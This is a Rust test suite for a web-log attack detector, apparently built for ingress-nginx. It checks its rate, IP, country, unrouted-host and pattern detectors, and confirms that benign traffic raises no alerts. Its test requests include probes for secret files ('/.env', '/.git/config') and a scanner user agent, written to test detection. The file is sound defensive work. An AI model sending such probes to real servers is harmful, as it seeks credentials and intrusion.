fn error_burst_needs_both_the_count_and_the_ratio() {
    // 19 errors: under the floor of 20.
    let few = [MinuteStats {
        errors_5xx: 19,
        ..minute(2, M0, 40)
    }];
    assert!(
        observe_minutes(&DetectorConfig::default(), &few)
            .1
            .is_empty()
    );
    // 100 errors of 10,000 requests: 1%, under the 20% ratio.
    let diluted = [MinuteStats {
        errors_5xx: 100,
        ..minute(2, M0, 10_000)
    }];
    assert!(
        observe_minutes(&DetectorConfig::default(), &diluted)
            .1
            .is_empty()
    );
}

#[test]
fn rate_detectors_keep_routes_apart() {
    let mut minutes = Vec::new();
    for m in 0..10 {
        minutes.push(minute(1, M0 + m, 10_000));
        minutes.push(minute(2, M0 + m, 100));
    }
    // 2,000 on route 1 is a dip; on route 2 it is a flood.
    minutes.push(minute(1, M0 + 10, 2_000));
    minutes.push(minute(2, M0 + 10, 2_000));
    let (_, finished) = observe_minutes(&DetectorConfig::default(), &minutes);
    let routes: Vec<Option<u32>> = finished.iter().map(|a| a.route).collect();
    assert_eq!(routes, [Some(2)]);
}

#[test]
fn switched_off_rate_detectors_never_fire() {
    let mut config = DetectorConfig::default();
    config.request_flood.enabled = false;
    config.error_burst.enabled = false;
    let mut minutes: Vec<MinuteStats> = (0..10).map(|m| minute(4, M0 + m, 100)).collect();
    minutes.push(MinuteStats {
        errors_5xx: 9_000,
        ..minute(4, M0 + 10, 10_000)
    });
    assert!(observe_minutes(&config, &minutes).1.is_empty());
}

// ---------------------------------------------------------------------------------------------
// untrusted-source

fn untrusted_config(deny: &[&str], allow: &[&str]) -> DetectorConfig {
    let mut config = DetectorConfig::default();
    config.untrusted_sources.deny = deny.iter().map(|s| s.to_string()).collect();
    config.untrusted_sources.allow = allow.iter().map(|s| s.to_string()).collect();
    config
}

#[test]
fn untrusted_source_fires_once_per_denied_source_and_counts_its_requests() {
    let config = untrusted_config(&["203.0.113.0/24", "2001:db8::/32"], &[]);
    let mut requests = series(3, 0.0, 1.0, |_, r| r);
    requests.push(req("2001:db8::7", 5.0));
    requests.push(req("198.51.100.1", 6.0));
    let run = run_with(&config, &requests);
    assert_eq!(run.fired_now.len(), 2);
    let alerts: Vec<(&str, u64, i64, i64)> = alerts_of(&run, Detector::UntrustedSource)
        .iter()
        .map(|a| (a.source.as_str(), a.count, a.first_us, a.last_us))
        .collect();
    assert_eq!(
        alerts,
        [
            ("203.0.113.5", 3, at(0.0), at(2.0)),
            ("2001:db8::7", 1, at(5.0), at(5.0)),
        ]
    );
}

#[test]
fn untrusted_source_with_an_allow_list_fires_for_everyone_outside_it() {
    let config = untrusted_config(&[], &["10.0.0.0/8", "192.0.2.1"]);
    let requests = vec![
        req("10.1.2.3", 0.0),
        req("192.0.2.1", 1.0),
        req("::ffff:10.9.9.9", 2.0),
        req("192.0.2.2", 3.0),
    ];
    let run = run_with(&config, &requests);
    let sources: Vec<&str> = run.finished.iter().map(|a| a.source.as_str()).collect();
    assert_eq!(sources, ["192.0.2.2"]);
}

#[test]
fn untrusted_source_is_off_without_lists() {
    assert!(run(&[req("203.0.113.5", 0.0)]).finished.is_empty());
}

// ---------------------------------------------------------------------------------------------
// disallowed-country

#[test]
fn disallowed_country_fires_for_denied_countries_and_outside_the_allow_list() {
    let mut config = DetectorConfig::default();
    config.countries.deny = vec!["ru".into()];
    let requests = vec![
        req("198.51.100.1", 0.0).country("RU"),
        req("198.51.100.1", 1.0).country("RU"),
        req("198.51.100.2", 2.0).country("DE"),
        req("198.51.100.3", 3.0),
    ];
    let run = run_with(&config, &requests);
    let alerts = alerts_of(&run, Detector::DisallowedCountry);
    assert_eq!(alerts.len(), 1);
    assert_eq!(alerts[0].source, "198.51.100.1");
    assert_eq!(alerts[0].count, 2);
    assert_eq!(alerts[0].detail.as_deref(), Some("country RU"));

    let mut config = DetectorConfig::default();
    config.countries.allow = vec!["DE".into(), "FR".into()];
    let run = run_with(&config, &requests);
    let sources: Vec<&str> = run.finished.iter().map(|a| a.source.as_str()).collect();
    // RU is outside the allow list; DE is inside; a request without a country is not judged.
    assert_eq!(sources, ["198.51.100.1"]);
}

// ---------------------------------------------------------------------------------------------
// unrouted-host

#[test]
fn unrouted_host_fires_once_per_host_and_names_the_busiest_client() {
    let mut requests = Vec::new();
    for i in 0..3 {
        requests.push(
            req("198.51.100.1", f64::from(i))
                .route(None)
                .unrouted("shop.evil.example"),
        );
    }
    for i in 0..5 {
        requests.push(
            req("198.51.100.2", 10.0 + f64::from(i))
                .route(None)
                .unrouted("shop.evil.example"),
        );
    }
    requests.push(
        req("198.51.100.1", 20.0)
            .route(None)
            .unrouted("other.example"),
    );
    let run = run(&requests);
    assert_eq!(run.fired_now.len(), 2);
    assert_eq!(
        run.fired_now[0].source, "198.51.100.1",
        "the first client, at firing time"
    );
    let alerts: Vec<(&str, u64, i64, i64)> = alerts_of(&run, Detector::UnroutedHost)
        .iter()
        .map(|a| (a.source.as_str(), a.count, a.first_us, a.last_us))
        .collect();
    assert_eq!(
        alerts,
        [
            ("198.51.100.2", 8, at(0.0), at(14.0)),
            ("198.51.100.1", 1, at(20.0), at(20.0)),
        ]
    );
    assert_eq!(
        run.finished[0].detail.as_deref(),
        Some(
            "host shop.evil.example: no Ingress or route defines it; ingress-nginx logs these \
             only with enable-access-log-for-default-backend: \"true\""
        )
    );
}

#[test]
fn unrouted_hosts_past_the_cap_share_one_alert() {
    let requests: Vec<Req> = (0..1_005)
        .map(|i| {
            let host: &'static str = Box::leak(format!("h{i}.example").into_boxed_str());
            req("198.51.100.1", f64::from(i)).route(None).unrouted(host)
        })
        .collect();
    let run = run(&requests);
    assert_eq!(run.finished.len(), 1_001);
    let shared = run.finished.last().expect("alerts");
    assert_eq!(shared.count, 5);
    assert_eq!(shared.first_us, at(1_000.0));
    assert_eq!(
        shared.detail.as_deref(),
        Some(
            "hosts beyond the first 1,000 that no Ingress or route defines; ingress-nginx logs \
             these only with enable-access-log-for-default-backend: \"true\""
        )
    );
}

#[test]
fn unrouted_host_can_be_switched_off() {
    let mut config = DetectorConfig::default();
    config.unrouted_host.enabled = false;
    let requests = vec![req("198.51.100.1", 0.0).unrouted("x.example")];
    assert!(run_with(&config, &requests).finished.is_empty());
}

// ---------------------------------------------------------------------------------------------
// The classifier

#[test]
fn the_classifier_is_shared_across_threads_and_events_cross_them() {
    fn shareable<T: Send + Sync>() {}
    fn sendable<T: Send>() {}
    shareable::<Classifier>();
    sendable::<Event>();
    sendable::<Detectors>();
}

#[test]
fn lines_without_a_client_address_or_time_give_no_event() {
    let classifier = Classifier::new(&DetectorConfig::default()).expect("config");
    let mut no_ip = req("203.0.113.5", 0.0).path("/.env");
    no_ip.ip = None;
    assert_eq!(classify(&classifier, &no_ip), None);
    let mut no_time = req("203.0.113.5", 0.0).path("/.env");
    no_time.at_us = None;
    assert_eq!(classify(&classifier, &no_time), None);
}

#[test]
fn the_event_carries_what_the_detectors_need() {
    let classifier = Classifier::new(&DetectorConfig::default()).expect("config");
    let request = req("203.0.113.5", 1.5)
        .path("/.git/config")
        .status(404)
        .ua("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)")
        .host("shop.example");
    let event = classify(&classifier, &request).expect("event");
    assert_eq!(event.time_us, at(1.5));
    assert_eq!(event.source, "203.0.113.5".parse::<IpAddr>().expect("ip"));
    assert_eq!(event.route, Some(1));
    assert_eq!(
        event.matched,
        [
            Detector::PathProbing,
            Detector::SensitiveFileProbe,
            Detector::BadUserAgent,
        ]
        .into_iter()
        .collect()
    );
    assert_eq!(event.user_agent_class.as_deref(), Some("nuclei"));
    assert_eq!(event.cve, None);
    assert_eq!(&*event.evidence, request.line().as_str());
}

#[test]
fn evidence_is_cut_at_512_bytes_on_a_character_boundary() {
    let classifier = Classifier::new(&DetectorConfig::default()).expect("config");
    let record = req("203.0.113.5", 0.0).path("/.env");
    let line = format!("{}{}", "a".repeat(511), "é".repeat(100));
    let event = classifier
        .classify(&Request {
            record: &record.record(),
            line: &line,
            route: None,
            unrouted_host: None,
            country: None,
        })
        .expect("event");
    assert_eq!(event.evidence.len(), 511);
    assert!(event.evidence.chars().all(|c| c == 'a'));
}

#[test]
fn switched_off_detectors_do_not_match() {
    let mut config = DetectorConfig::default();
    config.sensitive_file_probe.enabled = false;
    config.path_probing.enabled = false;
    let classifier = Classifier::new(&config).expect("config");
    assert_eq!(
        classify(
            &classifier,
            &req("203.0.113.5", 0.0).path("/.env").status(404)
        ),
        None
    );
}

#[test]
fn extra_patterns_reach_the_detectors() {
    let config: DetectorConfig = serde_json::from_value(serde_json::json!({
        "extraPatterns": {"badUserAgents": ["AcmeScanner"], "cveUris": ["CVE-2099-0001 /made/up"]}
    }))
    .expect("config");
    let requests = vec![
        req("198.51.100.1", 0.0).ua("acmescanner/2.0"),
        req("198.51.100.1", 1.0).ua("acmescanner/2.0"),
        req("198.51.100.2", 0.0).path("/made/up/x").status(404),
    ];
    let run = run_with(&config, &requests);
    let found: Vec<(Detector, Option<&str>)> = run
        .finished
        .iter()
        .map(|a| (a.detector, a.detail.as_deref()))
        .collect();
    assert_eq!(
        found,
        [
            (Detector::BadUserAgent, Some("UA: AcmeScanner")),
            (Detector::CveProbe, Some("CVE-2099-0001")),
        ]
    );
}

/// Every built-in entry, anywhere in its field and in any letter case, is found: the gates in
/// front of the automata never hide one.
#[test]
fn every_built_in_entry_matches_through_its_gate() {
    let classifier = Classifier::new(&DetectorConfig::default()).expect("config");
    let check = |request: Req, detector: Detector, entry: &str| {
        let event = classify(&classifier, &request);
        assert!(
            event.is_some_and(|e| e.matched.contains(detector)),
            "{} missed `{entry}` in {request:?}",
            detector.name()
        );
    };
    let cases = |entry: &str| [entry.to_string(), entry.to_ascii_uppercase()];
    for entry in patterns::entries(patterns::SENSITIVE_FILES) {
        for text in cases(entry) {
            check(
                req("192.0.2.1", 0.0).path(format!("/x{text}")),
                Detector::SensitiveFileProbe,
                entry,
            );
        }
    }
    for entry in patterns::entries(patterns::PATH_TRAVERSAL) {
        for text in cases(entry) {
            check(
                req("192.0.2.1", 0.0).path(format!("/a/{text}b")),
                Detector::PathTraversalProbe,
                entry,
            );
            check(
                req("192.0.2.1", 0.0).query(format!("f={text}")),
                Detector::PathTraversalProbe,
                entry,
            );
        }
    }
    for entry in patterns::entries(patterns::SQLI) {
        for text in cases(entry) {
            check(
                req("192.0.2.1", 0.0).query(format!("id=1{text}")),
                Detector::SqliProbe,
                entry,
            );
        }
    }
    for entry in patterns::entries(patterns::XSS) {
        for text in cases(entry) {
            check(
                req("192.0.2.1", 0.0).query(format!("q={text}")),
                Detector::XssProbe,
                entry,
            );
        }
    }
    for entry in patterns::entries(patterns::BACKDOORS) {
        for text in cases(entry) {
            check(
                req("192.0.2.1", 0.0).path(format!("/up/{text}")),
                Detector::BackdoorProbe,
                entry,
            );
        }
    }
    for entry in patterns::entries(patterns::ADMIN_INTERFACES) {
        for text in cases(entry) {
            check(
                req("192.0.2.1", 0.0)
                    .path(format!("/x{text}/y"))
                    .status(404),
                Detector::AdminInterfaceProbe,
                entry,
            );
        }
    }
    for entry in patterns::entries(patterns::BAD_USER_AGENTS) {
        for text in cases(entry) {
            let ua: &'static str = Box::leak(format!("Mozilla/5.0 ({text}) x").into_boxed_str());
            check(req("192.0.2.1", 0.0).ua(ua), Detector::BadUserAgent, entry);
        }
    }
    for line in patterns::entries(patterns::CVE_URIS) {
        let fragment = line.rsplit(' ').next().unwrap_or(line);
        if line.contains(" any ") {
            let fragment = line.split_once(" any ").map_or(fragment, |(_, f)| f);
            let ua: &'static str = Box::leak(format!("x {fragment} y").into_boxed_str());
            check(req("192.0.2.1", 0.0).ua(ua), Detector::CveProbe, line);
            check(
                req("192.0.2.1", 0.0).query(format!("a={fragment}")),
                Detector::CveProbe,
                line,
            );
            check(
                req("192.0.2.1", 0.0).path(format!("/{fragment}")),
                Detector::CveProbe,
                line,
            );
        } else {
            check(
                req("192.0.2.1", 0.0)
                    .path(format!("/x{fragment}y"))
                    .status(404),
                Detector::CveProbe,
                line,
            );
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Benign traffic

/// Realistic benign traffic: browsers and API clients fetching pages, assets and API resources,
/// with 200/301/304 answers, a few redirects after login, and health checks.
fn benign_traffic() -> Vec<Req> {
    const UAS: [&str; 6] = [
        CHROME,
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
        "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.144 Mobile Safari/537.36",
        "kube-probe/1.29",
    ];
    const IPS: [&str; 8] = [
        "198.51.100.10",
        "198.51.100.11",
        "203.0.113.20",
        "203.0.113.21",
        "192.0.2.30",
        "2001:db8::1",
        "2001:db8::2",
        "10.0.0.7",
    ];
    let pages: [(&str, Option<&str>, u16); 14] = [
        ("/", None, 200),
        ("/static/app.js", None, 304),
        ("/static/app.css", None, 304),
        ("/api/orders/42", Some("page=2"), 200),
        (
            "/api/orders",
            Some("page=3&per_page=50&sort=-created_at"),
            200,
        ),
        ("/products/shoes", None, 200),
        (
            "/products/shoes",
            Some("color=red&size=42&utm_source=newsletter"),
            200,
        ),
        ("/search", Some("q=running+shoes+for+women"), 200),
        ("/blog/2024/01/15/hello-world", None, 200),
        ("/old-page", None, 301),
        ("/images/logo.png", None, 304),
        ("/healthz", None, 200),
        ("/admin/dashboard", None, 200),
        (
            "/account/settings",
            Some("tab=security&redirect=%2Faccount"),
            200,
        ),
    ];
    (0..10_000)
        .map(|i| {
            let (path, query, status) = pages[i % pages.len()];
            let mut request = req(IPS[i % IPS.len()], i as f64 * 0.05)
                .path(path)
                .status(status)
                .ua(UAS[(i / 3) % UAS.len()])
                .host("shop.example");
            if let Some(query) = query {
                request = request.query(query);
            }
            if i % 500 == 0 {
                request = request.method("POST").path("/login").status(302);
            }
            request
        })
        .collect()
}

#[test]
fn benign_traffic_raises_no_alert() {
    let requests = benign_traffic();
    let classifier = Classifier::new(&DetectorConfig::default()).expect("config");
    // No detector even looks at a benign line.
    let looked_at: Vec<(&str, &str)> = requests
        .iter()
        .filter(|r| classify(&classifier, r).is_some())
        .map(|r| (r.method, r.path.as_str()))
        .collect();
    assert_eq!(looked_at, []);
    assert!(run(&requests).finished.is_empty());
    // Steady minutes, with the ordinary wobble, do not flood or burst either.
    let minutes: Vec<MinuteStats> = (0..120)
        .map(|m| MinuteStats {
            errors_5xx: (m % 7) as u64,
            new_sources: 20 + (m % 5) as u64,
            ..minute(1, M0 + m, 1_200 + ((m * 37) % 300) as u64)
        })
        .collect();
    assert!(
        observe_minutes(&DetectorConfig::default(), &minutes)
            .1
            .is_empty()
    );
}

// ---------------------------------------------------------------------------------------------
// Bounded memory

#[test]
fn a_million_source_scan_never_exceeds_the_bucket_cap() {
    let config = DetectorConfig::default();
    let classifier = Classifier::new(&config).expect("config");
    let mut detectors = Detectors::new(&config);
    let template = classify(
        &classifier,
        &req("10.0.0.0", 0.0).path("/not-here").status(404),
    )
    .expect("a 404 is a path-probing event");
    let mut event = template.clone();
    for n in 0..1_000_000u32 {
        event.source = IpAddr::from((0x0a00_0000u32 + n).to_be_bytes());
        event.time_us = T0 + i64::from(n) * 10;
        assert!(detectors.observe(&event).is_empty());
        assert!(
            detectors.live_buckets() <= config.max_buckets,
            "{} buckets after {n} sources",
            detectors.live_buckets()
        );
    }
    // The whole scan took 10 s: no bucket leaked empty, so the cap did the work.
    assert!(detectors.evicted_buckets() >= 1_000_000 - 100_000);
    assert!(detectors.finish().is_empty());
}

#[test]
fn a_busy_source_keeps_its_bucket_through_a_scan() {
    let config = DetectorConfig {
        max_buckets: 64,
        ..DetectorConfig::default()
    };
    let classifier = Classifier::new(&config).expect("config");
    let mut detectors = Detectors::new(&config);
    let prober = |n: u32, at: f64| req("203.0.113.5", at).path(format!("/p{n}")).status(404);
    // Five distinct 404s from the prober, a scan of 2,000 one-off 404s that keeps the map
    // full, then six more from the prober: its bucket held the most events, so eviction kept
    // it, and the sixth makes eleven.
    let mut requests: Vec<Req> = (0..5).map(|n| prober(n, 0.0)).collect();
    for n in 0..2_000u32 {
        let ip: &'static str = Box::leak(format!("10.0.{}.{}", n / 256, n % 256).into_boxed_str());
        requests.push(req(ip, 0.1).path("/x").status(404));
    }
    requests.extend((5..11).map(|n| prober(n, 0.2)));
    let mut fired = Vec::new();
    for request in &requests {
        if let Some(event) = classify(&classifier, request) {
            fired.extend(detectors.observe(&event));
        }
        assert!(detectors.live_buckets() <= 64);
    }
    let found: Vec<(&str, u64)> = fired.iter().map(|a| (a.source.as_str(), a.count)).collect();
    assert_eq!(found, [("203.0.113.5", 11)]);
    assert!(detectors.evicted_buckets() > 1_000);
}

// ---------------------------------------------------------------------------------------------
// Config

#[test]
fn an_empty_config_is_the_documented_defaults() {
    let config: DetectorConfig = serde_json::from_str("{}").expect("parses");
    assert_eq!(config, DetectorConfig::default());
    assert_eq!(config.brute_force, BucketSettings::BRUTE_FORCE);
    assert_eq!(
        (
            config.path_probing.capacity,
            config.path_probing.leak_seconds,
            config.path_probing.blackhole_seconds
        ),
        (10, 10.0, 300.0)
    );
    assert_eq!(config.cve_probe.capacity, 0);
    assert_eq!(config.max_buckets, 100_000);
    assert_eq!(config.request_flood.min_requests, 300);
    assert_eq!(config.error_burst.min_error_ratio, 0.2);
    assert!(config.unrouted_host.enabled);
}

#[test]
fn a_partial_detector_section_keeps_that_detectors_other_defaults() {
    let config: DetectorConfig = serde_json::from_value(serde_json::json!({
        "bruteForce": {"capacity": 3},
        "sqliProbe": {"enabled": false},
        "requestFlood": {"minRequests": 1000},
        "maxBuckets": 5000
    }))
    .expect("parses");
    assert_eq!(
        config.brute_force,
        BucketSettings {
            capacity: 3,
            ..BucketSettings::BRUTE_FORCE
        }
    );
    assert!(!config.sqli_probe.enabled);
    assert_eq!(config.sqli_probe.capacity, 10);
    assert_eq!(config.request_flood.min_requests, 1000);
    assert_eq!(config.request_flood.factor, 5.0);
    assert_eq!(config.max_buckets, 5000);
}

#[test]
fn unknown_keys_are_errors_at_every_level() {
    for bad in [
        serde_json::json!({"bruteforce": {}}),
        serde_json::json!({"bruteForce": {"capacty": 3}}),
        serde_json::json!({"requestFlood": {"minimumRequests": 3}}),
        serde_json::json!({"untrustedSources": {"block": ["10.0.0.0/8"]}}),
        serde_json::json!({"extraPatterns": {"sensitive": ["/x"]}}),
    ] {
        let error = serde_json::from_value::<DetectorConfig>(bad.clone())
            .expect_err("unknown key")
            .to_string();
        assert!(error.contains("unknown field"), "{bad}: {error}");
    }
}

#[test]
fn invalid_values_are_refused_by_the_classifier() {
    let mut config = DetectorConfig::default();
    config.untrusted_sources.deny = vec!["10.0.0.0/33".into()];
    assert_eq!(
        Classifier::new(&config).expect_err("bad cidr").to_string(),
        "detectors.untrustedSources.deny: `10.0.0.0/33` is not an IP address or CIDR prefix"
    );
    let mut config = DetectorConfig::default();
    config.countries.allow = vec!["Germany".into()];
    assert!(matches!(
        Classifier::new(&config),
        Err(DetectorConfigError::Country { list: "allow", .. })
    ));
    let mut config = DetectorConfig::default();
    config.xss_probe.leak_seconds = 0.0;
    assert_eq!(
        Classifier::new(&config).expect_err("zero leak").to_string(),
        "detectors.xssProbe.leakSeconds must be a number above 0, not 0"
    );
    let mut config = DetectorConfig::default();
    config.error_burst.min_error_ratio = 1.5;
    assert!(Classifier::new(&config).is_err());
    let config = DetectorConfig {
        max_buckets: 0,
        ..DetectorConfig::default()
    };
    assert!(Classifier::new(&config).is_err());
}

#[test]
fn single_addresses_are_accepted_as_cidrs() {
    let config = untrusted_config(&["192.0.2.7", "2001:db8::9"], &[]);
    let run = run_with(&config, &[req("192.0.2.7", 0.0), req("192.0.2.8", 0.0)]);
    let sources: Vec<&str> = run.finished.iter().map(|a| a.source.as_str()).collect();
    assert_eq!(sources, ["192.0.2.7"]);
}
